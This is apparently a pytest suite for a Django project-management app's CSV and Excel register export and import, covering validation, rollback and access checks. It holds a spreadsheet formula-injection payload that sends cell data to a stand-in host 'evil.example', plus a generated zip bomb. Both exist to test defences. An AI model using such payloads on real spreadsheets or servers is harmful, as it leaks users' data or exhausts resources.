"""The registers as CSV and Excel files: export, template, import (all rows or none), the
formula-injection guard and the doors, through ``/api/v1/projects/{id}/<register>/…``."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from budgets import services as budget_services
from budgets.models import BudgetLine, TimeEntry
from interchange import registers, sheets
from projects import services as project_services
from projects.models import Deliverable, Requirement
from risks import services as risk_services
from risks.models import Issue, Risk
from scheduling import services as scheduling_services
from scheduling.models import Dependency, Task
from stakeholders import services as stakeholder_services
from stakeholders.models import Stakeholder
from tests.factories import project_with

D = datetime.date
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def empty(manager, member, viewer):
    """A second project with the same people and start, and nothing in it."""
    return project_with(manager=manager, member=member, viewer=viewer)


def _url(project, register: str, what: str) -> str:
    return f"/api/v1/projects/{project.pk}/{register}/{what}/"


def _export(client, project, register: str, query: str = "format=csv"):
    return client.get(_url(project, register, "export") + f"?{query}")


def _import(client, project, register: str, content: bytes, name: str = "rows.csv"):
    upload = SimpleUploadedFile(name, content, content_type="application/octet-stream")
    return client.post(_url(project, register, "import"), {"file": upload}, format="multipart")


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


# --- what each register holds, made through its services ----------------------------------------


def _seed_tasks(project, by, member):
    create = scheduling_services.task_create
    create(project=project, by=by, name="Design", duration=5, percent_complete=40)
    create(
        project=project,
        by=by,
        name="Build",
        duration=10,
        predecessors="1FS+2d",
        owner=member,
        fixed_cost=Decimal("1200.50"),
        description="=1+1 is not a formula here",
    )
    create(project=project, by=by, name="Test", duration=3, predecessors="2SS, 1")
    create(
        project=project, by=by, name="Launch", duration=0, predecessors="3", deadline=D(2026, 3, 2)
    )


def _seed_risks(project, by, member):
    risk_services.risk_create(
        project=project,
        by=by,
        title="Vendor slips",
        probability=4,
        impact=5,
        owner=member,
        cost_impact=Decimal("5000.00"),
        response_strategy="mitigate",
        cause="One supplier",
        proximity=D(2026, 4, 1),
    )
    risk_services.risk_create(
        project=project, by=by, title="Cheaper cloud", kind="opportunity", probability=2
    )
    risk_services.risk_create(project=project, by=by, title=EVIL, impact=1)


def _seed_issues(project, by, member):
    risk_services.issue_create(
        project=project,
        by=by,
        title="Outage",
        priority="high",
        owner=member,
        due_date=D(2026, 2, 2),
    )
    issue = risk_services.issue_create(project=project, by=by, title="Slow builds")
    risk_services.issue_update(
        issue=issue, by=by, version=None, status="resolved", resolution="Bigger runners"
    )


def _seed_stakeholders(project, by, member):
    create = stakeholder_services.stakeholder_create
    create(project=project, by=by, name="Sam Sponsor", power=5, interest=5, title="CFO")
    create(
        project=project,
        by=by,
        name="Uma User",
        organisation="Helpdesk",
        email="uma@example.com",
        kind="external",
        power=2,
        interest=4,
        engagement_current="resistant",
        notes="Line one\nline two",
    )


def _seed_requirements(project, by, member):
    project_services.requirement_create(project=project, by=by, text="SSO", priority="must")
    project_services.requirement_create(
        project=project, by=by, text="Audit log", source="Regulator", status="approved"
    )


def _seed_deliverables(project, by, member):
    project_services.deliverable_create(
        project=project,
        by=by,
        name="Pilot",
        owner=member,
        due_date=D(2026, 3, 1),
        criteria=["Signed off", "Runs a week"],
    )
    project_services.deliverable_create(project=project, by=by, name="Handbook")


def _seed_budget_lines(project, by, member):
    budget_services.budget_line_create(
        project=project, by=by, category="hardware", planned_amount="900.00", name="Laptops"
    )
    budget_services.budget_line_create(
        project=project, by=by, category="labour", planned_amount="12000", note="Two testers"
    )


def _time_entry_needs(project, by):
    """What a time entry names: a person and a task (made in each project alike)."""
    task = scheduling_services.task_create(project=project, by=by, name="Test", duration=5)
    ana = budget_services.resource_create(project=project, by=by, name="Ana", rate="40")
    return task, ana


def _seed_time_entries(project, by, member):
    task, ana = _time_entry_needs(project, by)
    budget_services.time_entry_log(resource=ana, task=task, by=by, date=D(2026, 1, 5), hours="6")
    budget_services.time_entry_log(
        resource=ana, task=task, by=by, date=D(2026, 1, 6), hours="7.5", note="Regression"
    )


SEEDS = {
    "tasks": (_seed_tasks, Task),
    "risks": (_seed_risks, Risk),
    "issues": (_seed_issues, Issue),
    "stakeholders": (_seed_stakeholders, Stakeholder),
    "requirements": (_seed_requirements, Requirement),
    "deliverables": (_seed_deliverables, Deliverable),
    "budget-lines": (_seed_budget_lines, BudgetLine),
    "time-entries": (_seed_time_entries, TimeEntry),
}


def test_registers_every_register_has_a_seed():
    """Every register the API offers is exercised by the round trips below."""
    assert set(SEEDS) == set(registers.REGISTERS)


# --- round trips ----------------------------------------------------------------------------------


@pytest.mark.parametrize("register", list(SEEDS))
@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_registers_round_trip_gives_the_same_rows(
    register, format, api_for, project, empty, manager, member
):
    """Export a register, import the file into an empty project: its export is the same."""
    seed, model = SEEDS[register]
    seed(project, manager, member)
    if register == "time-entries":
        _time_entry_needs(empty, manager)
    client = api_for(manager)
    exported = _export(client, project, register, f"format={format}")
    assert exported.status_code == 200
    response = _import(client, empty, register, exported.content, f"rows.{format}")
    assert response.status_code == 201, response.json()
    count = model.objects.filter(project=project).count()
    assert response.json() == {"created": count, "ignored_columns": []}
    again = _export(client, empty, register, "format=csv").content
    assert _csv_rows(again) == _csv_rows(_export(client, project, register).content)


def test_registers_tasks_import_links_by_the_files_numbers_with_one_recompute(
    api_for, project, manager, django_assert_max_num_queries
):
    """Predecessors name the file's Number column; the plan is loaded in bulk, its links made
    and its dates computed once (a fixed number of queries, not a few per row)."""
    rows = ["Number,Name,Duration,Predecessors"] + [
        f"{n + 10},Step {n},2,{n + 9 if n > 1 else ''}" for n in range(1, 41)
    ]
    client = api_for(manager)
    with django_assert_max_num_queries(40):
        response = _import(client, project, "tasks", "\n".join(rows).encode())
    assert response.status_code == 201, response.json()
    tasks = list(Task.objects.filter(project=project).order_by("ref"))
    assert len(tasks) == 40 and Dependency.objects.filter(project=project).count() == 39
    assert tasks[-1].predecessors_text == str(tasks[-2].ref)
    assert tasks[-1].finish_date > tasks[0].finish_date


def test_registers_tasks_without_numbers_link_by_row(api_for, project, manager):
    """Without a Number column, predecessor 1 is the file's first task."""
    content = b"name;duration;predecessors\nDesign;3;\nBuild;2;1FS+1d\n"
    response = _import(api_for(manager), project, "tasks", content)
    assert response.status_code == 201, response.json()
    build = Task.objects.get(project=project, name="Build")
    design = Task.objects.get(project=project, name="Design")
    assert build.predecessors_text == f"{design.ref}FS+1d"


# --- bad rows: reported by row, nothing written ---------------------------------------------------


def test_registers_bad_row_is_reported_by_row_and_field_and_nothing_is_written(
    api_for, project, manager
):
    """A risk with probability 9 on row 3 refuses the whole file, naming row and column."""
    content = (
        b"Title,Probability,Impact,Owner\n"
        b"Vendor slips,3,4,mo\n"
        b"Key person leaves,9,4,\n"
        b"Budget cut,2,nobody,ghost\n"
    )
    response = _import(api_for(manager), project, "risks", content)
    assert response.status_code == 400
    errors = response.json()["errors"]
    assert {"row": 3, "field": "probability"} == {k: errors[0][k] for k in ("row", "field")}
    assert "1 to 5" in errors[0]["message"]
    assert {(e["row"], e["field"]) for e in errors} == {
        (3, "probability"),
        (4, "impact"),
        (4, "owner"),
    }
    assert "Nothing was imported" in response.json()["detail"]
    assert not Risk.objects.filter(project=project).exists()


def test_registers_a_row_the_service_refuses_rolls_back_the_rows_before_it(
    api_for, project, manager
):
    """A row valid cell by cell but refused by the service (a strategy that does not fit the
    kind) leaves nothing, not even the good rows before it."""
    content = b"title,kind,response strategy\nA,threat,mitigate\nB,opportunity,avoid\n"
    response = _import(api_for(manager), project, "risks", content)
    assert response.status_code == 400
    assert [(e["row"], e["field"]) for e in response.json()["errors"]] == [(3, "response_strategy")]
    assert not Risk.objects.filter(project=project).exists()


def test_registers_tasks_bad_row_names_the_row_and_writes_nothing(api_for, project, manager):
    """A task naming a number the file does not have, and a bad duration, are both reported."""
    content = b"Number,Name,Duration,Predecessors\n1,Design,3,\n2,Build,two,1\n3,Test,1,7SS\n"
    response = _import(api_for(manager), project, "tasks", content)
    assert response.status_code == 400
    assert {(e["row"], e["field"]) for e in response.json()["errors"]} == {
        (3, "duration"),
        (4, "predecessors"),
    }
    assert not Task.objects.filter(project=project).exists()


def test_registers_tasks_loop_is_refused_and_nothing_written(api_for, project, manager):
    """Links that make a loop refuse the file (the scheduler names the tasks)."""
    content = b"Number,Name,Duration,Predecessors\n1,A,1,2\n2,B,1,1\n"
    response = _import(api_for(manager), project, "tasks", content)
    assert response.status_code == 400, response.json()
    assert "loop" in str(response.json()["errors"]).lower()
    assert not Task.objects.filter(project=project).exists()


def test_registers_headers_are_matched_loosely_and_unknown_ones_reported(api_for, project, manager):
    """ "  TITLE ", "response_strategy" and "Response Strategy" all match; an unknown column is
    skipped and named in the answer."""
    content = b"  TITLE ,PROBABILITY,response_strategy,Colour\nVendor slips,2,accept,red\n"
    response = _import(api_for(manager), project, "risks", content)
    assert response.status_code == 201, response.json()
    assert response.json() == {"created": 1, "ignored_columns": ["Colour"]}
    risk = Risk.objects.get(project=project)
    assert (risk.probability, risk.response_strategy) == (2, "accept")


def test_registers_missing_required_column_refuses_the_file(api_for, project, manager):
    """A file without the register's required column is refused, naming it."""
    response = _import(api_for(manager), project, "risks", b"Probability,Impact\n3,3\n")
    assert response.status_code == 400
    error = response.json()["errors"][0]
    assert (error["row"], error["field"]) == (1, "header")
    assert "no Title column" in error["message"]


def test_registers_file_too_big_or_too_long_is_refused_with_its_limit(api_for, project, manager):
    """Over 5 MB or over 5,000 rows: refused with the limit in the message, nothing written."""
    client = api_for(manager)
    big = b"Title\n" + b"x" * (sheets.MAX_BYTES + 1)
    response = _import(client, project, "risks", big)
    assert response.status_code == 400
    assert "at most 5 MB" in response.json()["errors"][0]["message"]
    long = b"Title\n" + b"".join(b"R%d\n" % n for n in range(sheets.MAX_ROWS + 1))
    response = _import(client, project, "risks", long)
    assert response.status_code == 400
    assert "more than 5,000 rows" in response.json()["errors"][0]["message"]
    assert not Risk.objects.filter(project=project).exists()


def test_registers_not_a_spreadsheet_is_refused(api_for, project, manager):
    """A zip that is no workbook is refused with a message, not a crash."""
    response = _import(api_for(manager), project, "risks", b"PK\x03\x04garbage", "x.xlsx")
    assert response.status_code == 400
    assert "cannot be read" in response.json()["errors"][0]["message"]


# --- export: the guard, the formats, the template -----------------------------------------------


def test_registers_export_guards_formula_cells_in_csv(api_for, project, manager, member):
    """A risk titled =HYPERLINK(...) is exported as text (a leading quote); numbers are not."""
    _seed_risks(project, manager, member)
    response = _export(api_for(manager), project, "risks")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    expected = f'attachment; filename="{project.key}-risks-{project.today():%Y-%m-%d}.csv"'
    assert response["Content-Disposition"] == expected
    rows = _csv_rows(response.content)
    title = rows[0].index("Title")
    assert [row[title] for row in rows[1:]] == ["Vendor slips", "Cheaper cloud", "'" + EVIL]
    assert rows[1][rows[0].index("Score")] == "20"


def test_registers_export_xlsx_reads_back_with_openpyxl_as_text(api_for, project, manager, member):
    """The Excel export opens in openpyxl: a bold header, numbers as numbers, dates as dates,
    and the formula-looking title stored as guarded text, never as a formula."""
    _seed_risks(project, manager, member)
    response = _export(api_for(manager), project, "risks", "format=xlsx")
    assert response["Content-Type"] == sheets.XLSX_TYPE
    assert response["Content-Disposition"].endswith(f'-{project.today():%Y-%m-%d}.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    assert header[:5] == ["Ref", "Title", "Kind", "Category", "Probability"]
    assert sheet.cell(row=2, column=5).value == 4
    proximity = sheet.cell(row=2, column=header.index("Proximity") + 1).value
    assert proximity.date() == D(2026, 4, 1)  # Excel has no date-only type
    evil = sheet.cell(row=4, column=2)
    assert (evil.value, evil.data_type) == ("'" + EVIL, "s")


def test_registers_template_has_the_import_columns_and_an_example_that_imports(
    api_for, project, manager
):
    """The template lists the columns an import reads, with an example row that imports."""
    client = api_for(manager)
    for register in ("tasks", "risks", "issues", "stakeholders", "requirements", "budget-lines"):
        response = _export(client, project, register, "format=xlsx&template=1")
        assert response.status_code == 200
        assert "-template-" in response["Content-Disposition"]
        sheet = load_workbook(io.BytesIO(response.content)).active
        header = [cell.value for cell in sheet[1]]
        expected = [c.header for c in registers.REGISTERS[register].importable]
        assert header == expected
        assert sheet.max_row == 2
        answer = _import(client, project, register, response.content, "template.xlsx")
        assert answer.status_code == 201, (register, answer.json())


def test_registers_export_rejects_an_unknown_format(api_for, project, manager):
    """?format=pdf is a 400 that says which formats there are."""
    response = _export(api_for(manager), project, "risks", "format=pdf")
    assert response.status_code == 400
    assert "csv or xlsx" in str(response.json()["format"])


@pytest.mark.parametrize("register", list(SEEDS))
def test_registers_export_query_count_is_flat(
    register, api_for, project, manager, member, django_assert_max_num_queries
):
    """Exporting takes the same few queries with 2 rows as with 3 times as many."""
    seed, _ = SEEDS[register]
    client = api_for(manager)
    seed(project, manager, member)
    with django_assert_max_num_queries(6):
        assert _export(client, project, register).status_code == 200
    if register != "time-entries":  # the same person, task and day are one entry
        seed(project, manager, member)
        seed(project, manager, member)
    with django_assert_max_num_queries(6):
        assert _export(client, project, register, "format=xlsx").status_code == 200


# --- doors ----------------------------------------------------------------------------------------


def test_registers_outsider_gets_404_on_export_and_import(api_for, project, outsider, manager):
    """A non-member cannot tell the project exists: 404 both ways, nothing written."""
    _seed_risks(project, manager, None)
    client = api_for(outsider)
    assert _export(client, project, "risks").status_code == 404
    assert _export(client, project, "risks", "format=xlsx").status_code == 404
    response = _import(client, project, "risks", b"Title\nSneaky\n")
    assert response.status_code == 404
    assert not Risk.objects.filter(project=project, title="Sneaky").exists()


def test_registers_viewer_exports_but_cannot_import(api_for, project, viewer):
    """A viewer reads the register as a file; importing needs the member role (403)."""
    client = api_for(viewer)
    assert _export(client, project, "stakeholders").status_code == 200
    response = _import(client, project, "stakeholders", b"Name\nSam\n")
    assert response.status_code == 403
    assert not Stakeholder.objects.filter(project=project).exists()


# --- pages ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "page, register",
    [
        ("/projects/{pk}/risks/", "risks"),
        ("/projects/{pk}/risks/issues/", "issues"),
        ("/projects/{pk}/stakeholders/", "stakeholders"),
        ("/projects/{pk}/requirements/", "requirements"),
        ("/projects/{pk}/deliverables/", "deliverables"),
        ("/projects/{pk}/schedule/", "tasks"),
        ("/projects/{pk}/budget/", "budget-lines"),
        ("/projects/{pk}/budget/resources/", "time-entries"),
    ],
)
def test_registers_list_pages_offer_export_links_and_an_import_form(
    page, register, client_for, project, member
):
    """Each register's list page links its CSV and Excel exports and has an import form."""
    body = client_for(member).get(page.format(pk=project.pk)).content.decode()
    export = f"/projects/{project.pk}/registers/{register}/export/"
    assert f'href="{export}?format=csv"' in body and f'href="{export}?format=xlsx"' in body
    assert f'action="/projects/{project.pk}/registers/{register}/import/"' in body
    assert 'type="file"' in body


def test_registers_viewer_sees_export_links_but_no_import_form(client_for, project, viewer):
    """A viewer may download the register, not upload into it."""
    body = client_for(viewer).get(f"/projects/{project.pk}/risks/").content.decode()
    assert f"/projects/{project.pk}/registers/risks/export/?format=xlsx" in body
    assert "/registers/risks/import/" not in body


def test_registers_page_import_lists_the_problems_or_goes_back_with_a_message(
    client_for, project, member
):
    """A bad file shows the import page with each problem by row (nothing imported); a good one
    goes back to the list page, which says how many rows came in."""
    client = client_for(member)
    url = f"/projects/{project.pk}/registers/risks/import/"
    back = f"/projects/{project.pk}/risks/"
    bad = SimpleUploadedFile("r.csv", b"Title,Impact\nA,3\nB,7\n")
    response = client.post(url, {"file": bad, "next": back})
    assert response.status_code == 400
    body = response.content.decode()
    assert "Nothing was imported" in body and "Give a whole number from 1 to 5" in body
    assert not Risk.objects.filter(project=project).exists()
    good = SimpleUploadedFile("r.csv", b"Title,Impact\nA,3\nB,4\n")
    response = client.post(url, {"file": good, "next": back}, follow=True)
    assert response.redirect_chain[-1][0] == back
    assert "2 rows imported." in response.content.decode()
    assert Risk.objects.filter(project=project).count() == 2


def test_registers_page_export_and_import_keep_the_door(client_for, project, outsider, viewer):
    """A non-member gets 404 on the page routes too; a viewer's import is refused."""
    client = client_for(outsider)
    assert client.get(f"/projects/{project.pk}/registers/risks/export/").status_code == 404
    upload = SimpleUploadedFile("r.csv", b"Title\nSneaky\n")
    url = f"/projects/{project.pk}/registers/risks/import/"
    assert client.post(url, {"file": upload}).status_code == 404
    response = client_for(viewer).post(url, {"file": SimpleUploadedFile("r.csv", b"Title\nX\n")})
    assert response.status_code == 403
    assert not Risk.objects.filter(project=project).exists()


def test_registers_export_errors_are_json_whatever_the_format(api_for, project, outsider):
    """The door's 404 on ?format=xlsx is a JSON body, not a broken workbook."""
    response = _export(api_for(outsider), project, "risks", "format=xlsx")
    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"
    assert "detail" in response.json()


def test_registers_xlsx_that_unpacks_too_big_is_refused(api_for, project, manager):
    """A small workbook that would unpack past the limit (a zip bomb) is refused unread."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("xl/sharedStrings.xml", b"\0" * (sheets.MAX_UNPACKED_BYTES + 1))
    assert len(out.getvalue()) < sheets.MAX_BYTES
    response = _import(api_for(manager), project, "risks", out.getvalue(), "bomb.xlsx")
    assert response.status_code == 400
    assert "unpacks to" in response.json()["errors"][0]["message"]
